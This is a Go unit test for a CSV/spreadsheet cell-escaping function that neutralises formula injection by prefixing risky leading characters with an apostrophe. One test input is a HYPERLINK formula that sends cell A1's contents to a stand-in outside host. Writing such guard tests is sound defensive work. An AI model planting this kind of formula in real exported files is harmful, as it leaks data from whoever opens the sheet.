package sheet

import "testing"

// TestCellGuardsFormulas was server's TestCSVCellGuardsFormulas.
func TestCellGuardsFormulas(t *testing.T) {
	for _, c := range []struct {
		name    string
		in      string
		numeric bool
		want    string
	}{
		{"empty", "", false, ""},
		{"plain text", "Budi Santoso", false, "Budi Santoso"},
		{"equals", `=HYPERLINK("http://x.example/?"&A1,"klik")`, false, `'=HYPERLINK("http://x.example/?"&A1,"klik")`},
		{"plus", "+62 812 555", false, "'+62 812 555"},
		{"minus", "-2+3", false, "'-2+3"},
		{"at", "@SUM(1)", false, "'@SUM(1)"},
		{"tab", "\tX", false, "'\tX"},
		{"carriage return", "\rX", false, "'\rX"},
		{"formula later in the cell", "Budi =1+1", false, "Budi =1+1"},
		{"leading space", " =1", false, " =1"},
		{"negative number as text", "-3", false, "'-3"},
		{"negative number", "-3", true, "-3"},
		{"negative decimal", "-12.50", true, "-12.50"},
		{"number", "75.00", true, "75.00"},
		{"formula in a numeric column", "-2+3", true, "'-2+3"},
		{"exponent in a numeric column", "-1e3", true, "'-1e3"},
		{"plus number in a numeric column", "+3", true, "'+3"},
		{"lone minus in a numeric column", "-", true, "'-"},
		{"dangling dot in a numeric column", "-3.", true, "'-3."},
		{"formula in a numeric column", "=1+1", true, "'=1+1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Cell(c.in, c.numeric); got != c.want {
				t.Errorf("Cell(%q, %v) = %q, want %q", c.in, c.numeric, got, c.want)
			}
		})
	}
}
